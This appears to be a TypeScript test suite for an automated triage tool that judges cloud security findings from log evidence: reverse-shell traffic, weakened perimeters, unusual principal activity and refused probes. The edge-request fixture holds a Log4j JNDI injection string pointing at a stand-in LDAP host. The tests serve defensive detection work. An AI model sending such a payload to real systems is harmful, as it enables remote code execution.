import assert from "node:assert/strict";
import { describe, it } from "node:test";
import type { Finding } from "../../../functions/src/domain/finding/finding.js";
import type { JsonValue } from "../../../functions/src/domain/json.js";
import { coverageGap, coverageOf } from "../../../functions/src/domain/log-coverage.js";
import { EvidenceIndex } from "../../../functions/src/offline-model/concluder/evidence-index.js";
import { assess } from "../../../functions/src/offline-model/concluder/index.js";
import {
  blockedProbes,
  deniedThenAllowed,
  followUps,
  historyOf,
  iocContacts,
} from "../../../functions/src/offline-model/concluder/signals.js";
import { planFor } from "../../../functions/src/offline-model/planner.js";
import { decodeIntent } from "../../../functions/src/offline-model/step-text.js";
import { subjectOf } from "../../../functions/src/offline-model/subject.js";
import { named } from "../../helpers/briefs.js";
import { makeFinding } from "./support/findings.js";
import { intelCall, result, rowsCall } from "./support/results.js";

/**
 * Issue 30, item 2: the evidence analysts read across categories, each a runbook's rows read as
 * a typed fact, and the verdicts the cross-category rules draw from them. Every verdict case
 * has a neighbour that breaks its condition and must not reach it.
 */
const T = "2025-10-14T16:08:03.888Z";
const at = (minutes: number) => new Date(Date.parse(T) + minutes * 60_000).toISOString();

function reverseShell(): Finding {
  return makeFinding({
    category: "Reverse Shell",
    eventTime: T,
    resource: {
      name: "//container.googleapis.com/projects/shop/locations/us-central1/clusters/shop-gke",
      type: "google.container.Cluster",
      projectDisplayName: "shop",
      displayName: "shop-gke",
    },
    connections: [
      { destinationIp: "198.51.100.23", destinationPort: 4444, sourceIp: "10.8.3.14", protocol: "TCP" },
    ],
    details: { kubernetes: { nodes: [{ name: "gke-shop-gke-pool-1-x7kq" }] } },
  });
}

function flowsTo(
  ip: string,
  rows: { flows: number; sessions: number; bytes: number; first: string; last: string }[],
) {
  return rowsCall(
    "vpc_flows_to_ip",
    { ip, start: at(-360), end: at(60) },
    rows.map((r) => ({
      direction: "to_ip",
      vm: "gke-shop-gke-pool-1-x7kq",
      vm_ip: "10.8.3.14",
      remote_port: 4444,
      protocol: 6,
      flows: r.flows,
      sessions: r.sessions,
      bytes: r.bytes,
      first_seen: r.first,
      last_seen: r.last,
    })),
  );
}

describe("traffic with the finding's own IOCs", () => {
  it("reads sessions, bytes and duration, and confirms the finding when they are sustained", () => {
    const results = [
      result("ioc-traffic", "answered", [
        flowsTo("198.51.100.23", [{ flows: 40, sessions: 3, bytes: 2_400_000, first: at(-2), last: at(46) }]),
      ]),
    ];
    const [contact] = iocContacts(subjectOf(reverseShell()), new EvidenceIndex(results));
    assert.equal(contact?.sessions, 3);
    assert.equal(contact?.bytes, 2_400_000);
    assert.equal(contact?.durationS, 48 * 60);
    assert.equal(contact?.sustained, true);
    const { decision } = assess(reverseShell(), results);
    assert.equal(decision.verdict, "true_positive");
    assert.match(
      decision.findings[0]?.finding ?? "",
      /198\.51\.100\.23 — 40 flow record\(s\), 3 session\(s\)/,
    );
  });

  it("does not confirm on one stray record, nor on traffic with an address the finding does not name", () => {
    const stray = [
      result("ioc-traffic", "answered", [
        flowsTo("198.51.100.23", [{ flows: 1, sessions: 1, bytes: 300, first: at(0), last: at(0) }]),
      ]),
    ];
    assert.equal(assess(reverseShell(), stray).decision.verdict, "inconclusive");
    const other = [
      result("ioc-traffic", "answered", [
        flowsTo("203.0.113.9", [{ flows: 40, sessions: 3, bytes: 2_400_000, first: at(-2), last: at(46) }]),
      ]),
    ];
    assert.equal(assess(reverseShell(), other).decision.verdict, "inconclusive");
  });

  it("keeps the detector's severity when nothing came back", () => {
    const { decision } = assess(reverseShell(), [
      result("ioc-traffic", "no_data", [flowsTo("198.51.100.23", [])]),
    ]);
    assert.equal(decision.verdict, "inconclusive");
    assert.equal(decision.severity, "HIGH");
  });
});

function perimeterChange(): Finding {
  return makeFinding({
    category: "Defense Evasion: Modify VPC Service Control",
    eventTime: T,
    resource: {
      name: "//accesscontextmanager.googleapis.com/accessPolicies/5588/servicePerimeters/prod",
      type: "google.identity.accesscontextmanager.ServicePerimeter",
    },
    access: { principalEmail: "dana@acme.example", callerIp: "203.0.113.150" },
  });
}

function deniedAllowed(
  lastDenied: string,
  firstAllowed: string | null,
  principal = "sync@partner.iam.gserviceaccount.com",
) {
  return rowsCall("access_denied_then_allowed", { start: at(-1440), end: at(360) }, [
    {
      principal,
      caller_ip: "198.51.100.61",
      service: "bigquery.googleapis.com",
      denied: 9,
      allowed: firstAllowed ? 30 : 0,
      last_denied: lastDenied,
      first_allowed_after_denial: firstAllowed,
      denial_reason: "Request is prohibited by organization's policy. vpcServiceControlsUniqueIdentifier: x",
      first_seen: at(-52),
      last_seen: at(20),
    } as Record<string, JsonValue>,
  ]);
}

describe("denied, then allowed", () => {
  it("confirms a weakened control when a caller it stopped got through right after the change", () => {
    const results = [result("denied-then-allowed", "answered", [deniedAllowed(at(-6), at(2))])];
    const turned = deniedThenAllowed(subjectOf(perimeterChange()), new EvidenceIndex(results));
    assert.equal(turned[0]?.aroundChange, true);
    const { decision } = assess(perimeterChange(), results);
    assert.equal(decision.verdict, "true_positive");
    assert.ok(decision.iocs.some((i) => i.value === "sync@partner.iam.gserviceaccount.com"));
  });

  it("not when the caller was never allowed, when the turn came hours from the change, or when it is the changer itself", () => {
    for (const results of [
      [result("d", "answered", [deniedAllowed(at(-6), null)])],
      [result("d", "answered", [deniedAllowed(at(-300), at(-240))])],
      [result("d", "answered", [deniedAllowed(at(-6), at(2), "dana@acme.example")])],
    ])
      assert.equal(assess(perimeterChange(), results).decision.verdict, "inconclusive");
  });
});

function historyRow(o: {
  ip: string;
  agent: string;
  method: string;
  daysBefore: number;
  recent: number;
  levels?: string;
  first?: string;
}): Record<string, JsonValue> {
  return {
    principal: "ops@acme.example",
    caller_ip: o.ip,
    caller_network: null,
    user_agent: o.agent,
    access_levels: o.levels ?? "",
    method: o.method,
    calls_before: o.daysBefore * 2,
    days_before: o.daysBefore,
    calls_recent: o.recent,
    failed: 0,
    first_seen: o.first ?? at(-60 * 24 * 60),
    last_seen: at(0),
  };
}

function adminFinding(category = "Defense Evasion: Breakglass Account Used"): Finding {
  return makeFinding({
    category,
    eventTime: T,
    access: {
      principalEmail: "ops@acme.example",
      callerIp: "34.118.12.41",
      methodName: "v1.compute.instances.stop",
    },
  });
}

const history = (rows: Record<string, JsonValue>[]) => [
  result("principal-history", "answered", [
    rowsCall(
      "principal_history",
      { principal: "ops@acme.example", recent: at(-1440), start: at(-130000), end: at(360) },
      rows,
    ),
  ]),
];
const MANAGED = "accessPolicies/1/accessLevels/corp_managed_device";

describe("a principal's history", () => {
  it("clears the finding on two benign signals: its own address on earlier days and a managed device", () => {
    const results = history([
      historyRow({
        ip: "34.118.12.41",
        agent: "Chrome",
        method: "v1.compute.instances.stop",
        daysBefore: 2,
        recent: 1,
        levels: MANAGED,
      }),
    ]);
    const reading = historyOf(subjectOf(adminFinding()), new EvidenceIndex(results));
    assert.deepEqual(reading?.knownAddresses, ["34.118.12.41"]);
    assert.deepEqual(reading?.managedDevice, [MANAGED]);
    const { decision } = assess(adminFinding(), results);
    assert.equal(decision.verdict, "benign");
    assert.deepEqual(decision.signals, ["history: known address", "request: managed device"]);
  });

  it("the same method on three earlier days is a habit; create and patch of one object are one habit", () => {
    const results = history([
      historyRow({
        ip: "10.8.0.22",
        agent: "argocd",
        method: "io.k8s.apps.v1.daemonsets.patch",
        daysBefore: 7,
        recent: 0,
      }),
      historyRow({
        ip: "10.8.0.22",
        agent: "argocd",
        method: "io.k8s.apps.v1.daemonsets.create",
        daysBefore: 0,
        recent: 1,
      }),
    ]);
    const reading = historyOf(subjectOf(adminFinding()), new EvidenceIndex(results));
    assert.deepEqual(reading?.recurring, [{ method: "io.k8s.apps.v1.daemonsets.create", days: 7 }]);
    assert.equal(assess(adminFinding(), results).decision.verdict, "benign");
  });

  it("one benign signal is not enough: a known address alone stays inconclusive", () => {
    const results = history([
      historyRow({
        ip: "34.118.12.41",
        agent: "Chrome",
        method: "v1.compute.instances.get",
        daysBefore: 1,
        recent: 0,
      }),
      historyRow({
        ip: "34.118.12.41",
        agent: "Chrome",
        method: "v1.compute.instances.stop",
        daysBefore: 0,
        recent: 1,
      }),
    ]);
    const { decision } = assess(adminFinding(), results);
    assert.equal(decision.verdict, "inconclusive");
  });

  it("confirms a first-seen address with a new client against a month of history", () => {
    const results = history([
      historyRow({
        ip: "34.118.12.41",
        agent: "Chrome",
        method: "InsertJob",
        daysBefore: 20,
        recent: 0,
        levels: MANAGED,
      }),
      historyRow({
        ip: "198.51.100.140",
        agent: "python-requests/2.31",
        method: "InsertJob",
        daysBefore: 0,
        recent: 1,
      }),
    ]);
    const reading = historyOf(subjectOf(adminFinding()), new EvidenceIndex(results));
    assert.deepEqual(reading?.newAddresses, ["198.51.100.140"]);
    assert.equal(reading?.lostDeviceLevel, true);
    const { decision } = assess(adminFinding(), results);
    assert.equal(decision.verdict, "true_positive");
    assert.ok(decision.iocs.some((i) => i.value === "198.51.100.140" && /first-seen/.test(i.context ?? "")));
  });

  it("a principal with no history at all has nothing first-seen", () => {
    const results = history([
      historyRow({
        ip: "198.51.100.140",
        agent: "python-requests/2.31",
        method: "InsertJob",
        daysBefore: 0,
        recent: 1,
      }),
    ]);
    assert.equal(historyOf(subjectOf(adminFinding()), new EvidenceIndex(results))?.hasHistory, false);
    assert.equal(assess(adminFinding(), results).decision.verdict, "inconclusive");
  });
});

describe("what a newly added principal did next", () => {
  const added = () =>
    makeFinding({
      category: "Credential Access: External Member Added To Privileged Group",
      eventTime: T,
      access: { principalEmail: "helpdesk@acme.example", callerIp: "34.118.12.41" },
      sourceProperties: { properties: { externalMember: "user:k.ramirez.ops@gmail.com" } },
    });
  const activity = (minutes: number, method: string) =>
    result("new-principal-next", "answered", [
      rowsCall("principal_activity", { principal: "k.ramirez.ops@gmail.com", start: at(-5), end: at(360) }, [
        {
          log: "activity",
          method,
          caller_ip: "203.0.113.99",
          user_agent: "gcloud",
          key_name: null,
          calls: 1,
          failed: 0,
          first_seen: at(minutes),
          last_seen: at(minutes),
          sample_resource: "projects/-/serviceAccounts/terraform@acme.iam.gserviceaccount.com",
        },
      ]),
    ]);

  it("confirms the finding when the new member used the foothold after it was added", () => {
    const results = [activity(18, "google.iam.admin.v1.CreateServiceAccountKey")];
    assert.equal(
      followUps(subjectOf(added()), new EvidenceIndex(results))[0]?.member,
      "k.ramirez.ops@gmail.com",
    );
    assert.equal(assess(added(), results).decision.verdict, "true_positive");
  });

  it("not for activity before the add, nor for a harmless read", () => {
    assert.equal(
      assess(added(), [activity(-90, "google.iam.admin.v1.CreateServiceAccountKey")]).decision.verdict,
      "inconclusive",
    );
    assert.equal(
      assess(added(), [activity(18, "google.iam.admin.v1.GetServiceAccount")]).decision.verdict,
      "inconclusive",
    );
  });
});

describe("a probe refused at the edge", () => {
  const log4j = () =>
    makeFinding({
      category: "Initial Access: Log4j Compromise Attempt",
      eventTime: T,
      resource: {
        name: "//compute.googleapis.com/projects/shop/global/backendServices/web",
        type: "google.compute.BackendService",
        projectDisplayName: "shop",
      },
      sourceProperties: { properties: { remoteIp: "198.51.100.77" } },
      indicator: undefined,
    } as Parameters<typeof makeFinding>[0]);
  const edge = (status: number, outcome: string) =>
    rowsCall("lb_requests_from_ip", { ip: "198.51.100.77", start: at(-360), end: at(60) }, [
      {
        remote_ip: "198.51.100.77",
        backend_service: "web",
        http_status: status,
        status_details: outcome === "DENY" ? "denied_by_security_policy" : "response_sent_by_backend",
        security_policy: "edge-waf",
        policy_outcome: outcome,
        waf_rules: "owasp-crs-v030001-id044228-cve",
        requests: 14,
        sample_url: `https://shop/?x=\${jndi:ldap://203.0.113.45/a}`,
        sample_user_agent: "scanner",
        first_seen: at(-2),
        last_seen: at(1),
      },
    ]);
  const benignScanner = intelCall([
    { type: "ip", value: "198.51.100.77", verdict: "benign", tags: ["internet-scanner"] },
  ]);

  it("dismisses on two signals: every request refused, and intel knows the scanner", () => {
    const results = [
      result("edge-requests", "answered", [edge(403, "DENY")]),
      result("intel-iocs", "answered", [benignScanner]),
    ];
    assert.equal(blockedProbes(subjectOf(log4j()), new EvidenceIndex(results))[0]?.refused, 14);
    const { decision } = assess(log4j(), results);
    assert.equal(decision.verdict, "benign");
    assert.deepEqual(decision.signals, ["edge: probe refused", "intel: benign source"]);
  });

  it("not when a request got through to a backend, nor on the refusal alone", () => {
    const through = [
      result("edge-requests", "answered", [edge(403, "DENY"), edge(200, "ACCEPT")]),
      result("intel-iocs", "answered", [benignScanner]),
    ];
    assert.equal(assess(log4j(), through).decision.verdict, "inconclusive");
    assert.equal(
      assess(log4j(), [result("edge-requests", "answered", [edge(403, "DENY")])]).decision.verdict,
      "inconclusive",
    );
  });
});

describe("the logs' time span", () => {
  const coverage = [
    { table: "syslog", first: "2023-03-01T06:00:00.000Z", last: "2023-03-01T23:00:00.000Z", rows: 900 },
    { table: "requests", rows: 0 },
  ];

  it("tells covered, ending before, and empty apart", () => {
    assert.equal(
      coverageOf(coverage, "syslog", { start: "2025-09-18T00:00:00Z", end: "2025-09-18T07:00:00Z" }),
      "before",
    );
    assert.equal(
      coverageOf(coverage, "syslog", { start: "2023-03-01T08:00:00Z", end: "2023-03-01T09:00:00Z" }),
      "covered",
    );
    assert.equal(
      coverageOf(coverage, "requests", { start: "2023-03-01T08:00:00Z", end: "2023-03-01T09:00:00Z" }),
      "empty",
    );
    assert.match(
      coverageGap(coverage, "2025-09-18T06:12:44.903Z") ?? "",
      /end at 2023-03-01T23:00:00.000Z, before the finding's time/,
    );
    assert.equal(coverageGap(coverage, "2023-03-01T08:30:00Z"), undefined);
  });

  it("plans no step the logs cannot answer and never asks for a wider window, and says why once", () => {
    const finding = makeFinding({
      category: "Defense Evasion: Rootkit",
      eventTime: "2025-09-18T06:12:44.903Z",
      resource: {
        name: "//compute.googleapis.com/projects/p/zones/z/instances/123",
        type: "google.compute.Instance",
        projectDisplayName: "p",
        displayName: "ledger-api-2",
      },
    });
    const tables = ["syslog", "compute_googleapis_com_vpc_flows", "cloudaudit_googleapis_com_activity"];
    const old = tables.map((table) => ({ ...coverage[0]!, table }));
    const draft = planFor({
      role: "planner",
      finding,
      tools: named(["log_query", "log_tables", "threat_intel_lookup"]),
      tables: named(tables),
      coverage: old,
      maxSteps: 10,
      related: [],
      problems: [],
    });
    assert.equal(draft.steps.length, 1, draft.steps.map((s) => s.id).join(", "));
    assert.match(draft.steps[0]?.description ?? "", /logs=outside/);
    // A search for the finding's terms can only come back empty there: the one step reads the
    // host's own records, unfiltered, to show where they end.
    const kept = decodeIntent(draft.steps[0]?.description ?? "");
    assert.equal(kept?.params.terms, undefined, draft.steps[0]?.description);
    assert.equal(kept?.params.instance?.[0], "ledger-api-2");
    assert.equal(draft.constraints?.filter((c) => /before the finding's time/.test(c)).length, 1);
    const unknown = planFor({
      role: "planner",
      finding,
      tools: named(["log_query", "log_tables", "threat_intel_lookup"]),
      tables: named(tables),
      maxSteps: 10,
      related: [],
      problems: [],
    });
    assert.ok(unknown.steps.length > 1, "without the span, the playbook's steps are all planned");
  });
});
